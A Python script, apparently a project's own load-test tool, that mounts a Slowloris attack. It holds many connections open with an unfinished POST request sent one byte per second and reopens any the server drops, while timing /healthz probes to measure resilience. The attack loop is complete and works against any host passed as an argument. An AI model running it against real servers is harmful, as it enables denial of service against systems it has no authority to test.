#!/usr/bin/env python3
"""Slowloris from one address (docs/performance.md): N connections to HOST:PORT,
each sending an unfinished request one byte a second; sockets the server cut or refused are
re-created once a second (as slowloris tools do); meanwhile /healthz is asked every 100 ms from PROBE_HOST (another loopback
address, bound as the source: on Linux a connection to 127.0.0.2 comes from 127.0.0.1). Prints how many connections the attacker held, how often it was cut, and how many
/healthz probes failed. Python standard library only.

usage: slowloris.py HOST PORT PROBE_HOST CONNECTIONS SECONDS
"""
import http.client
import selectors
import socket
import sys
import threading
import time

host, port, probe_host = sys.argv[1], int(sys.argv[2]), sys.argv[3]
n_conns, seconds = int(sys.argv[4]), float(sys.argv[5])
REQ = b"POST /api/v1/declarations HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nX-a: " + b"a" * 100000

import collections
probe_errors = collections.Counter()
stats = {"opened": 0, "cut": 0, "refused": 0, "held_max": 0, "probes": 0, "probe_fail": 0,
         "probe_ms": []}
stop = time.time() + seconds
slow_probes = []  # probes over 250 ms: total and the part spent connecting


def probe():
    while time.time() < stop:
        t0 = time.time()
        t_conn = None
        try:
            # 5 s: the default health-check timeout of common load balancers; answers over 1 s
            # are listed in slow_probes and counted in probe_over_1s
            c = http.client.HTTPConnection(host, port, timeout=5,
                                           source_address=(probe_host, 0))
            c.connect()  # timed apart: a slow connect is the kernel's queue, a slow answer ours
            t_conn = time.time()
            c.request("GET", "/healthz")
            st = c.getresponse().status
            ok = st in (200, 503)
            if not ok:
                probe_errors["status %d" % st] += 1
            c.close()
        except OSError as e:
            probe_errors[type(e).__name__] += 1
            ok = False
        stats["probes"] += 1
        ms = (time.time() - t0) * 1000
        stats["probe_ms"].append(ms)
        if ms > 250:
            slow_probes.append("%.0fms(connect %s)" % (
                ms, "%.0fms" % ((t_conn - t0) * 1000) if t_conn else "unfinished"))
        if not ok:
            stats["probe_fail"] += 1
        time.sleep(max(0, 0.1 - (time.time() - t0)))


def main():
    th = threading.Thread(target=probe)
    th.start()
    conns = {}  # socket -> bytes sent
    sel = selectors.DefaultSelector()

    def open_one():
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect_ex((host, port))
        except OSError:
            s.close()
            stats["refused"] += 1
            return
        conns[s] = 0
        sel.register(s, selectors.EVENT_READ)
        stats["opened"] += 1

    while len(conns) < n_conns and time.time() < stop:
        open_one()
    next_tick = time.time()
    while time.time() < stop:
        # a closed or reset socket is readable: the server cut or refused it
        for key, _ in sel.select(timeout=0):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                stats["cut" if conns.get(s, 0) > 1 else "refused"] += 1
                sel.unregister(s)
                s.close()
                conns.pop(s, None)
        if time.time() >= next_tick:
            for s in list(conns):
                try:
                    s.send(REQ[conns[s]:conns[s] + 1])
                    conns[s] += 1
                except OSError:
                    pass
            next_tick += 1.0
            stats["held_max"] = max(stats["held_max"], sum(1 for v in conns.values() if v > 0))
            # like slowloris tools: sockets the server dropped are re-created once per tick
            while len(conns) < n_conns:
                open_one()
        time.sleep(0.02)
    th.join()
    for s in conns:
        s.close()
    pm = sorted(stats.pop("probe_ms"))
    stats["probe_p50_ms"] = round(pm[len(pm) // 2], 1) if pm else None
    stats["probe_max_ms"] = round(pm[-1], 1) if pm else None
    stats["probe_over_1s"] = sum(1 for m in pm if m > 1000)
    print("slowloris:", " ".join("%s=%s" % kv for kv in stats.items()),
          "probe_errors=%s" % dict(probe_errors), "slow_probes=%s" % slow_probes)


main()
